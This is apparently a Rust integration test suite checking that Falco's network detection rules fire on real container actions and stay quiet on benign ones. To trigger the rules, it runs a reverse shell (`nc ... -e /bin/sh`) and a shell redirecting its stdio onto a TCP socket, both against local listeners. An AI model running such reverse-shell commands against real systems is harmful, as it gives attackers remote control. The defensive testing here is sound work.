//! The official Falco rules of the network family, loaded unchanged, on real actions:
//! "Redirect STDOUT/STDIN to Network Connection in Container" (the reverse shell: `nc -e
//! /bin/sh` to a listener, and a shell redirecting its stdin and stdout onto the TCP
//! connection it was given), quiet for a pipe or a unix socket on stdout and a TCP socket onto another fd;
//! "Packet socket created in container" (busybox `arping`), quiet for an IP socket in the
//! container and a packet socket on the host; "System procs network activity" for a shell
//! accepting a connection on a non-loopback address, quiet on loopback.

use lanner_tests::*;
use serde_json::Value;
use std::{
    io::{Read, Write},
    net::{IpAddr, Ipv4Addr, TcpListener, TcpStream},
    os::fd::{AsRawFd, OwnedFd},
    process::Stdio,
    sync::mpsc,
    time::{Duration, Instant},
};

const REDIRECT_TO_NETWORK: RuleSpec = RuleSpec {
    name: "Redirect STDOUT/STDIN to Network Connection in Container",
    priority: "Notice",
    tags: &[
        "maturity_stable",
        "container",
        "network",
        "process",
        "mitre_execution",
        "T1059",
    ],
};

const PACKET_SOCKET_IN_CONTAINER: RuleSpec = RuleSpec {
    name: "Packet socket created in container",
    priority: "Notice",
    tags: &[
        "maturity_stable",
        "container",
        "network",
        "mitre_credential_access",
        "T1557.002",
    ],
};

const SYSTEM_PROCS_NETWORK_ACTIVITY: RuleSpec = RuleSpec {
    name: "System procs network activity",
    priority: "Notice",
    tags: &[
        "maturity_incubating",
        "host",
        "network",
        "process",
        "mitre_execution",
        "T1059",
    ],
};

/// `-r` each official file; `alerts_only`: the production configuration (no `--dump-events`,
/// hooks attached as the rules need them).
fn official_sensor(alerts_only: bool) -> Sensor {
    official_sensor_with(alerts_only, &[])
}

/// [`official_sensor`] with more rules files loaded after the official ones, and every
/// matching rule reported (not only the first, Falco's default).
fn official_sensor_with(alerts_only: bool, more: &[String]) -> Sensor {
    let paths = official_rules_paths();
    let mut args = vec!["-o", "rule_matching=all"];
    for p in paths.iter().chain(more) {
        args.push("-r");
        args.push(p.as_str());
    }
    let mut sensor = Sensor::launch(Launch {
        args: &args,
        alerts_only,
        ..Launch::default()
    });
    sensor.wait_ready();
    sensor
}

/// A loopback listener inside the container's network namespace (on a thread that joined
/// it; lo brought up first): accepts one connection, types `input` into it and returns what
/// came back until the peer closed it.
fn listener_in_container(
    ctr: &RuncContainer,
    input: String,
) -> (u16, std::thread::JoinHandle<String>) {
    let up = ctr.exec_with(
        &["--user", "0:0", "--cap", "CAP_NET_ADMIN"],
        &["/bin/ip", "link", "set", "lo", "up"],
    );
    assert!(up.success, "lo up: {up:?}");
    let ns = std::fs::File::open(format!("/proc/{}/ns/net", ctr.init_pid())).unwrap();
    let (tx, rx) = mpsc::channel();
    let thread = std::thread::spawn(move || {
        // SAFETY: setns on this thread only, with an fd we own.
        let r = unsafe { libc::setns(ns.as_raw_fd(), libc::CLONE_NEWNET) };
        assert_eq!(r, 0, "setns: errno {}", last_errno());
        let l = TcpListener::bind("127.0.0.1:0").unwrap();
        tx.send(l.local_addr().unwrap().port()).unwrap();
        l.set_nonblocking(true).unwrap();
        let deadline = Instant::now() + RUNC_TIMEOUT;
        let mut s = loop {
            match l.accept() {
                Ok((s, _)) => break s,
                Err(_) if Instant::now() < deadline => {
                    std::thread::sleep(Duration::from_millis(20))
                }
                Err(e) => panic!("no connection to the container's listener: {e}"),
            }
        };
        s.set_nonblocking(false).unwrap();
        s.set_read_timeout(Some(RUNC_TIMEOUT)).unwrap();
        s.write_all(input.as_bytes()).unwrap();
        let mut out = String::new();
        let _ = s.read_to_string(&mut out);
        out
    });
    (rx.recv().unwrap(), thread)
}

/// `runc exec` of `argv` as the container's user, with `fd` as its fd 3 (runc's
/// `--preserve-fds`: its stdio are pipes of its own, extra fds are passed as they are).
fn exec_with_fd3(ctr: &RuncContainer, fd: OwnedFd, argv: &[&str]) -> bool {
    use std::os::unix::process::CommandExt;
    let user = format!("{CTR_UID}:{CTR_GID}");
    let (mut cmd, _pid_file) = ctr.exec_command(&["--user", &user, "--preserve-fds", "1"], argv);
    let raw = fd.as_raw_fd();
    // SAFETY: only dup2/fcntl between fork and exec (async-signal-safe); `fd` outlives the
    // spawn. dup2 onto itself would leave close-on-exec set: then the flag is cleared.
    unsafe {
        cmd.pre_exec(move || {
            let r = if raw == 3 {
                libc::fcntl(3, libc::F_SETFD, 0)
            } else {
                libc::dup2(raw, 3)
            };
            if r < 0 {
                return Err(std::io::Error::last_os_error());
            }
            Ok(())
        });
    }
    let mut child = cmd
        .stdin(Stdio::null())
        .stdout(Stdio::null())
        .stderr(Stdio::null())
        .spawn()
        .unwrap();
    drop(fd);
    wait_or_kill(&mut child, Instant::now() + RUNC_TIMEOUT).is_some_and(|s| s.success())
}

/// A loopback TCP connection: (the end given away, the end the test keeps).
fn tcp_connection() -> (TcpStream, TcpStream) {
    let l = TcpListener::bind("127.0.0.1:0").unwrap();
    let kept = TcpStream::connect(l.local_addr().unwrap()).unwrap();
    let (given, _) = l.accept().unwrap();
    (given, kept)
}

#[test]
fn a_reverse_shell_in_a_container_fires_redirect_stdout_stdin_to_network() {
    require_root!();
    let mut sensor = official_sensor(true);
    let ctr = RuncContainer::start();
    ctr_applets(&ctr, &["nc", "ip"]);

    // The classic payload: nc connects to the attacker's listener and hands the connection to
    // a shell as its stdin and stdout (dup2 onto 0, then 1).
    let marker = unique("revshell");
    let (port, listener) = listener_in_container(&ctr, format!("echo {marker}; exit\n"));
    let run = ctr.exec(&["/bin/nc", "127.0.0.1", &port.to_string(), "-e", "/bin/sh"]);
    let typed_back = listener.join().unwrap();
    assert!(
        typed_back.contains(&marker),
        "the shell answered {typed_back:?}: {run:?}"
    );
    let of_nc = |a: &Value| {
        a["rule"] == REDIRECT_TO_NETWORK.name
            && out_is(a, "fd.rport", port)
            && out_is(a, "evt.type", "dup2")
    };
    let alert = sensor.wait_alert(&REDIRECT_TO_NETWORK, of_nc);
    assert_out(&alert, "container.id", ctr.short_id());
    assert_out(&alert, "fd.sip", "127.0.0.1");
    assert_out(&alert, "fd.type", "ipv4");
    assert_out(&alert, "fd.l4proto", "tcp");
    assert_out(&alert, "proc.name", "nc");
    assert_out_contains(&alert, "fd.name", &format!("->127.0.0.1:{port}"));
    assert!(
        out(&alert, "fd.lport")
            .as_u64()
            .is_some_and(|p| p > 0 && p != u64::from(port)),
        "lport is the shell's end\n{alert:#}"
    );
    // One alert per dup2: onto stdin, then stdout.
    let deadline = Instant::now() + EVENT_TIMEOUT;
    while sensor.alerts_where(of_nc).len() < 2 && Instant::now() < deadline {
        std::thread::sleep(Duration::from_millis(50));
    }
    assert_eq!(sensor.alerts_where(of_nc).len(), 2, "dup2 onto 0 and 1");

    // A shell given a TCP connection (as fd 3) that puts it on its stdin and stdout.
    let (given, mut kept) = tcp_connection();
    let sport = given.local_addr().unwrap().port();
    let marker = unique("redirect");
    let ok = exec_with_fd3(
        &ctr,
        given.into(),
        &["/bin/sh", "-c", &format!("exec 0<&3 1<&3; echo {marker}")],
    );
    assert!(ok, "sh with a socket as fd 3");
    kept.set_read_timeout(Some(RUNC_TIMEOUT)).unwrap();
    let mut back = String::new();
    let _ = kept.read_to_string(&mut back);
    assert!(back.contains(&marker), "{back:?}");
    let alert = sensor.wait_alert(&REDIRECT_TO_NETWORK, |a| out_is(a, "fd.lport", sport));
    assert_out(&alert, "container.id", ctr.short_id());
    assert_out(&alert, "proc.name", "sh");
    assert_out(&alert, "evt.type", "dup2");
    drop(ctr);
    sensor.stop();
}

#[test]
fn pipes_unix_sockets_and_other_fds_do_not_fire_redirect_stdout_stdin() {
    require_root!();
    let mut sensor = official_sensor(false);
    let ctr = RuncContainer::start();
    ctr_applets(&ctr, &["cat"]);
    let short = ctr.short_id().to_string();
    let dup2_in_ctr = |e: &Value, ty: &str, ret: i64| {
        is_type(e, "dup2")
            && e["container.id"] == *short
            && e["fd.type"] == ty
            && e["evt.rawres"] == ret
    };

    // A pipeline: dup2 of a pipe onto stdout (echo) and stdin (cat).
    let run = ctr.exec(&["/bin/sh", "-c", "echo x | cat"]);
    assert!(run.success, "{run:?}");
    sensor.wait_for(|e| dup2_in_ctr(e, "pipe", 1), EVENT_TIMEOUT);
    sensor.wait_for(|e| dup2_in_ctr(e, "pipe", 0), EVENT_TIMEOUT);

    // A unix socket put on stdout.
    let (given, _kept) = std::os::unix::net::UnixStream::pair().unwrap();
    assert!(exec_with_fd3(
        &ctr,
        given.into(),
        &["/bin/sh", "-c", "exec 1<&3"]
    ));
    sensor.wait_for(|e| dup2_in_ctr(e, "unix", 1), EVENT_TIMEOUT);

    // A TCP connection put on another fd than 0, 1, 2.
    let (given, _kept) = tcp_connection();
    let lport = given.local_addr().unwrap().port();
    assert!(exec_with_fd3(
        &ctr,
        given.into(),
        &["/bin/sh", "-c", "exec 5<&3"]
    ));
    let ev = sensor.wait_for(|e| dup2_in_ctr(e, "ipv4", 5), EVENT_TIMEOUT);
    assert_field(&ev, "fd.lport", lport);

    sensor.assert_no_alert("pipes, a unix socket, a TCP socket onto fd 5", |a| {
        a["rule"] == REDIRECT_TO_NETWORK.name && out_is(a, "container.id", ctr.short_id())
    });
    drop(ctr);
    sensor.stop();
}

#[test]
fn a_packet_socket_in_a_container_fires_packet_socket_created() {
    require_root!();
    let mut sensor = official_sensor(false);
    let ctr = RuncContainer::start();
    ctr_applets(&ctr, &["arping", "nc"]);
    // arping opens an AF_PACKET socket first; whether it then finds an ARP-able interface
    // does not matter.
    let _ = ctr.exec_with(
        &["--user", "0:0", "--cap", "CAP_NET_RAW"],
        &["/bin/arping", "-c", "1", "-w", "1", "-I", "lo", "127.0.0.1"],
    );
    let alert = sensor.wait_alert(&PACKET_SOCKET_IN_CONTAINER, |a| {
        out_is(a, "container.id", ctr.short_id())
    });
    assert_out(&alert, "proc.name", "arping");
    assert_out_contains(&alert, "evt.args", "domain=AF_PACKET");
    assert_out(&alert, "fd.name", "");
    assert_out(&alert, "fd.type", "<NA>");

    // An IP socket in the container (nc), and a packet socket on the host: no alert.
    let run = ctr.exec(&["/bin/nc", "-w", "1", "127.0.0.1", "9"]);
    sensor.wait_for(
        |e| is_type(e, "socket") && e["proc.pid"] == run.pid && e["evt.arg.domain"] == "AF_INET",
        EVENT_TIMEOUT,
    );
    // SAFETY: a socket call; the fd is closed below.
    let fd = unsafe { libc::socket(libc::AF_PACKET, libc::SOCK_DGRAM, 0) };
    assert!(fd >= 0, "packet socket: errno {}", last_errno());
    let tid = gettid();
    sensor.wait_for(
        |e| is_type(e, "socket") && e["thread.tid"] == tid && e["evt.rawres"] == fd,
        EVENT_TIMEOUT,
    );
    // SAFETY: closing our own fd.
    unsafe { libc::close(fd) };
    sensor.assert_no_alert("nc in the container, a packet socket on the host", |a| {
        a["rule"] == PACKET_SOCKET_IN_CONTAINER.name
            && (out_is(a, "proc.name", "nc") && out_is(a, "container.id", ctr.short_id())
                || out_is(a, "container.id", "host") && out_is(a, "proc.name", thread_comm()))
    });
    drop(ctr);
    sensor.stop();
}

/// An IPv4 address of this host other than loopback, if it has one.
fn host_ipv4() -> Option<Ipv4Addr> {
    let mut found = None;
    // SAFETY: getifaddrs fills a list we walk read-only and free once.
    unsafe {
        let mut ifs: *mut libc::ifaddrs = std::ptr::null_mut();
        if libc::getifaddrs(&mut ifs) != 0 {
            return None;
        }
        let mut p = ifs;
        while !p.is_null() {
            let a = (*p).ifa_addr;
            if !a.is_null() && i32::from((*a).sa_family) == libc::AF_INET {
                let sin = &*a.cast::<libc::sockaddr_in>();
                let ip = Ipv4Addr::from(u32::from_be(sin.sin_addr.s_addr));
                if !ip.is_loopback() && (*p).ifa_flags & libc::IFF_UP as u32 != 0 {
                    found = Some(ip);
                    break;
                }
            }
            p = (*p).ifa_next;
        }
        libc::freeifaddrs(ifs);
    }
    found
}

/// On a thread named `sh`: listen on `ip`, take one connection; (listening port, client port).
fn shell_accepts_on(ip: IpAddr) -> (u16, u16) {
    accept_on_thread_named("sh", ip)
}

/// On a thread named `comm`: listen on `ip`, take one connection; (listening port, client
/// port).
fn accept_on_thread_named(comm: &str, ip: IpAddr) -> (u16, u16) {
    let comm = std::ffi::CString::new(comm).unwrap();
    std::thread::spawn(move || {
        // SAFETY: names this thread (its comm: Falco's proc.name) with a NUL-terminated string.
        unsafe { libc::prctl(libc::PR_SET_NAME, comm.as_ptr()) };
        let l = TcpListener::bind((ip, 0)).unwrap();
        let sport = l.local_addr().unwrap().port();
        let c = TcpStream::connect((ip, sport)).unwrap();
        let (_a, _) = l.accept().unwrap();
        (sport, c.local_addr().unwrap().port())
    })
    .join()
    .unwrap()
}

#[test]
fn a_shell_accepting_a_connection_fires_system_procs_network_activity() {
    require_root!();
    let Some(ip) = host_ipv4() else {
        skip(
            "a_shell_accepting_a_connection_fires_system_procs_network_activity",
            "this host has no IPv4 address but loopback",
        );
        return;
    };
    let mut sensor = official_sensor(false);
    let (sport, cport) = shell_accepts_on(IpAddr::V4(ip));
    let alert = sensor.wait_alert(&SYSTEM_PROCS_NETWORK_ACTIVITY, |a| {
        out_is(a, "fd.name", format!("{ip}:{cport}->{ip}:{sport}"))
            && out_is(a, "evt.type", "accept4")
    });
    assert_out(&alert, "proc.name", "sh");
    assert_out(&alert, "fd.lport", sport);
    assert_out(&alert, "fd.rport", cport);
    assert_out(&alert, "fd.l4proto", "tcp");

    // The same on loopback: excluded by the inbound/outbound macro.
    let (sport, _) = shell_accepts_on(IpAddr::V4(Ipv4Addr::LOCALHOST));
    let ev = sensor.wait_for(
        |e| is_type(e, "accept4") && e["fd.sport"] == sport && e["proc.name"] == "sh",
        EVENT_TIMEOUT,
    );
    assert_field(&ev, "fd.sip", "127.0.0.1");
    sensor.assert_no_alert("a shell accepting on loopback", |a| {
        a["rule"] == SYSTEM_PROCS_NETWORK_ACTIVITY.name
            && (out_is(a, "fd.lport", sport) || out_is(a, "fd.rport", sport))
    });
    sensor.stop();
}

const UNEXPECTED_INBOUND_SOURCE: RuleSpec = RuleSpec {
    name: "Unexpected inbound connection source",
    priority: "Notice",
    tags: &[
        "maturity_sandbox",
        "host",
        "container",
        "network",
        "mitre_command_and_control",
        "TA0011",
    ],
};

const INTERPRETED_INBOUND: RuleSpec = RuleSpec {
    name: "Interpreted procs inbound network activity",
    priority: "Notice",
    tags: &[
        "maturity_sandbox",
        "host",
        "container",
        "network",
        "mitre_exfiltration",
        "TA0011",
    ],
};

const JAVA_CLASS_FILE_DOWNLOAD: RuleSpec = RuleSpec {
    name: "Java Process Class File Download",
    priority: "Critical",
    tags: &[
        "maturity_sandbox",
        "host",
        "container",
        "process",
        "mitre_initial_access",
        "T1190",
    ],
};

/// Three sandbox rules upstream ships disabled fire once enabled (a rules file that only
/// enables them): an inbound connection from outside 127/8 and 10/8, accepted by a `python3`
/// thread, fires the two inbound rules; a process run as `.../java` receiving a class file's
/// magic over UDP fires the log4shell rule (`evt.buffer bcontains cafebabe`: recvfrom's data).
#[test]
fn disabled_inbound_and_java_rules_fire_once_enabled() {
    require_root!();
    let Some(ip) = host_ipv4() else {
        skip(
            "disabled_inbound_and_java_rules_fire_once_enabled",
            "this host has no IPv4 address but loopback",
        );
        return;
    };
    let dir = TempDir::new("enable");
    let file = dir.path().join("enable.yaml");
    let enable: String = [
        &UNEXPECTED_INBOUND_SOURCE,
        &INTERPRETED_INBOUND,
        &JAVA_CLASS_FILE_DOWNLOAD,
    ]
    .iter()
    .map(|r| {
        let name = r.name;
        format!("- rule: {name}\n  enabled: true\n  override:\n    enabled: replace\n")
    })
    .collect();
    std::fs::write(&file, enable).unwrap();
    let mut sensor = official_sensor_with(false, &[file.display().to_string()]);

    let (sport, cport) = accept_on_thread_named("python3", IpAddr::V4(ip));
    let name = format!("{ip}:{cport}->{ip}:{sport}");
    for rule in [&UNEXPECTED_INBOUND_SOURCE, &INTERPRETED_INBOUND] {
        let alert = sensor.wait_alert(rule, |a| out_is(a, "fd.name", &*name));
        assert_out(&alert, "evt.type", "accept4");
        assert_out(&alert, "proc.name", "python3");
    }

    // `java` receiving a datagram that starts like a class file.
    let server = std::net::UdpSocket::bind("127.0.0.1:0").unwrap();
    let port = {
        let probe = std::net::UdpSocket::bind("127.0.0.1:0").unwrap();
        probe.local_addr().unwrap().port()
    };
    let code = format!(
        "import socket; s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); \
         s.bind(('127.0.0.1', {port})); s.settimeout(20); print('ready', flush=True); \
         s.recvfrom(100)"
    );
    // The interpreter itself (`python3` may be a wrapper that execs it again, with its own
    // argv[0]), run under the name of a Java runtime.
    let python = std::process::Command::new("python3")
        .args(["-c", "import sys; print(sys.executable)"])
        .output()
        .expect("python3 (the tests' host has it)");
    let python = String::from_utf8(python.stdout).unwrap().trim().to_string();
    let mut java = {
        use std::os::unix::process::CommandExt;
        std::process::Command::new(&python)
            .arg0("/opt/jdk/bin/java")
            .args(["-c", &code])
            .stdout(Stdio::piped())
            .spawn()
            .expect("python3 (the tests' host has it)")
    };
    let mut ready = [0u8; 6];
    java.stdout.take().unwrap().read_exact(&mut ready).unwrap();
    server
        .send_to(
            b"\xca\xfe\xba\xbe\x00\x00\x00\x34 class",
            ("127.0.0.1", port),
        )
        .unwrap();
    assert!(java.wait().unwrap().success());
    let alert = sensor.wait_alert(&JAVA_CLASS_FILE_DOWNLOAD, |a| out_is(a, "fd.lport", port));
    assert_out(&alert, "fd.type", "ipv4");
    assert_out(&alert, "fd.l4proto", "udp");
    sensor.stop();
}
